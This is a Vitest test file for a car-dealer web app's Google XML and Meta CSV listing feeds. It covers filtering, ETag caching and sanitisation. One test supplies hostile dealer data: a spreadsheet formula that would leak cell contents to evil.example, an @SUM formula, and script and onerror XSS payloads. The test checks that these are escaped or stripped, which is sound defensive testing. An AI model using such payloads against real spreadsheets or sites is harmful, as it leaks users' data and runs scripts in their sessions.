import { mkdtemp, readdir, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { XMLParser } from "fast-xml-parser";
import Papa from "papaparse";
import { NextRequest } from "next/server";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { GET as googleFeed } from "@/app/[host]/feeds/google-vehicle-listings.xml/route";
import { GET as metaFeed } from "@/app/[host]/feeds/meta-automotive.csv/route";
import type { DatabaseHandle } from "@/db/client";
import { META_REQUIRED_COLUMNS } from "@/domain/feeds/meta-automotive";
import { createTestDatabase, destroyTestDatabase } from "../../../tests/support/test-database";
import { importStock, type ImportOptions } from "../stock/import-stock";
import { createStockFixture, feedRow, records, type StockFixture } from "../../../tests/fixtures/stock-fixture";
import { replaceProcessSingleton } from "@/config/process-singletons";
import { DATABASE_SINGLETON } from "@/db/connection";

let handle: DatabaseHandle;
let fx: StockFixture;
let dataDir: string;
const host = "alpha.localhost:3000";
const options: ImportOptions = { now: new Date(), source: "test feed", full: true, force: true, maxRejectedShare: 0 };
const alphaStock = [
  feedRow(1),
  feedRow(2, { car_type: "new", km: 5 }),
  feedRow(3, { status: "sold" }),
  feedRow(4, { show_on_dealer_website: false }),
  feedRow(5, { item_type: "motorcycle" }),
  feedRow(6, { price: 0 }),
];

beforeAll(async () => {
  dataDir = await mkdtemp(path.join(tmpdir(), "vehicle-feeds-"));
  process.env.DATA_DIR = dataDir;
  handle = await createTestDatabase();
  fx = await createStockFixture(handle);
  replaceProcessSingleton(DATABASE_SINGLETON, Promise.resolve(handle));
  await importStock(handle, [fx.alpha], records(alphaStock), options);
  await importStock(handle, [fx.bravo], records([feedRow(9)]), options);
});
afterAll(async () => {
  await destroyTestDatabase(handle);
  await rm(dataDir, { recursive: true, force: true });
});

async function get(route: typeof googleFeed, file: string, headers: Record<string, string> = {}, on = host) {
  const response = await route(new NextRequest(`http://${on}/feeds/${file}`, { headers: { host: on, ...headers } }), { params: Promise.resolve({ host: on }) });
  return { status: response.status, headers: response.headers, text: await response.text() };
}

describe("the site's vehicle-ads feeds", () => {
  it("list the cars the site shows and Google takes, with absolute links and JPEG photos, in AUD and km", async () => {
    const { status, headers, text } = await get(googleFeed, "google-vehicle-listings.xml");
    expect([status, headers.get("content-type")]).toEqual([200, "application/xml; charset=utf-8"]);
    const ids = [...text.matchAll(/<g:id>([^<]+)<\/g:id>/g)].map((m) => m[1]);
    // Not the sold, unpublished, motorcycle or unpriced cars, nor the other site's.
    expect(ids).toEqual([`${fx.alpha.id}-U1001`, `${fx.alpha.id}-U1002`]);
    expect(text).toContain("<g:link>http://alpha.localhost:3000/cars/2021-toyota-rav4-gxl-u1001</g:link>");
    expect(text).toMatch(/<g:image_link>http:\/\/alpha\.localhost:3000\/media\/photos\/\d+\/[\w-]+\/[0-9a-f]{32}\?w=1280&amp;fm=jpeg&amp;q=75<\/g:image_link>/);
    expect(text).toContain("<g:price>39000.00 AUD</g:price>");
    expect(text).toContain("<g:mileage>41201 km</g:mileage>");
    expect(text).toContain("<g:store_code>alpha-city</g:store_code>");
  });

  it("gives Meta a CSV that Papa Parse reads, with the required columns", async () => {
    const { status, headers, text } = await get(metaFeed, "meta-automotive.csv");
    expect([status, headers.get("content-type")]).toEqual([200, "text/csv; charset=utf-8"]);
    const rows = Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true }).data;
    expect(rows.map((r) => r.vehicle_id)).toEqual([`${fx.alpha.id}-U1001`, `${fx.alpha.id}-U1002`, `${fx.alpha.id}-U1005`]);
    expect(Object.keys(rows[0] ?? {})).toEqual(expect.arrayContaining([...META_REQUIRED_COLUMNS]));
    expect(rows[2]).toMatchObject({ vehicle_type: "MOTORCYCLE", "mileage.unit": "KM", price: "39040 AUD", url: "http://alpha.localhost:3000/cars/2021-toyota-rav4-gxl-u1005" });
  });

  it("is built once per stock version: 304 for the same ETag, rebuilt when stock moves, kept when a feed changes nothing", async () => {
    const first = await get(googleFeed, "google-vehicle-listings.xml");
    const etag = first.headers.get("etag") ?? "";
    expect(etag).toMatch(/^"[0-9a-f]{32}"$/);
    expect((await get(googleFeed, "google-vehicle-listings.xml", { "if-none-match": etag })).status).toBe(304);
    await importStock(handle, [fx.alpha], records(alphaStock), options);
    expect((await get(googleFeed, "google-vehicle-listings.xml")).headers.get("etag")).toBe(etag);
    await importStock(handle, [fx.alpha], records([...alphaStock, feedRow(7)]), options);
    const moved = await get(googleFeed, "google-vehicle-listings.xml");
    expect(moved.headers.get("etag")).not.toBe(etag);
    expect(moved.text).toContain(`<g:id>${fx.alpha.id}-U1007</g:id>`);
    // The old version's file is gone; one file per site and feed is kept.
    expect((await readdir(path.join(dataDir, "feeds"))).filter((f) => f.startsWith("alpha-google-"))).toHaveLength(1);
  });

  // Issue 30: a dealer's colour was a spreadsheet formula, and its comments and title HTML.
  it("carry plain text in every field, and no CSV cell a spreadsheet would run as a formula", async () => {
    const hostile = feedRow(8, {
      name: "<i>2021 Toyota RAV4</i> <b>GXL</b>", colour: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")', badge: "@SUM(1+1)",
      dealercomments: "<p>Great <b>car</b></p><p>One owner</p><script>alert(1)</script><img src=x onerror=alert(1)>|Service &amp; &lt;b&gt;history&lt;/b&gt;",
    });
    await importStock(handle, [fx.bravo], records([feedRow(9), hostile]), options);
    const bravo = "bravo.localhost:3000";
    const meta = Papa.parse<Record<string, string>>((await get(metaFeed, "meta-automotive.csv", {}, bravo)).text, { header: true, skipEmptyLines: true }).data;
    const row = meta.find((r) => r.vehicle_id === `${fx.bravo.id}-U1008`);
    expect(row).toMatchObject({
      title: "2021 Toyota RAV4 GXL", exterior_color: `'=HYPERLINK("https://evil.example/?leak="&A1,"Click")`, trim: "'@SUM(1+1)",
      description: "Great car One owner Service & history",
    });
    for (const cell of meta.flatMap((r) => Object.values(r))) {
      expect(cell).not.toMatch(/<[a-z/!]|&(amp|lt|gt|quot|#\d+);/i);
      expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
    }
    const google = (await get(googleFeed, "google-vehicle-listings.xml", {}, bravo)).text;
    const item = google.slice(google.indexOf(`<g:id>${fx.bravo.id}-U1008</g:id>`));
    expect(item).toContain("<g:title>2021 Toyota RAV4 GXL</g:title>");
    expect(item).toContain("<g:description>Great car One owner Service &amp; history</g:description>");
    // Every element's text, read as XML, is plain: no markup or entities of the dealer's.
    const texts: string[] = [];
    const collect = (node: unknown): void => {
      if (typeof node === "string") texts.push(node);
      else if (node && typeof node === "object") Object.values(node).forEach(collect);
    };
    collect(new XMLParser({ parseTagValue: false }).parse(google));
    expect(texts).toContain('=HYPERLINK("https://evil.example/?leak="&A1,"Click")');
    for (const text of texts) expect(text).not.toMatch(/<[a-z/!]|&(amp|lt|gt|quot|#\d+);|onerror|alert\(/i);
  });
});
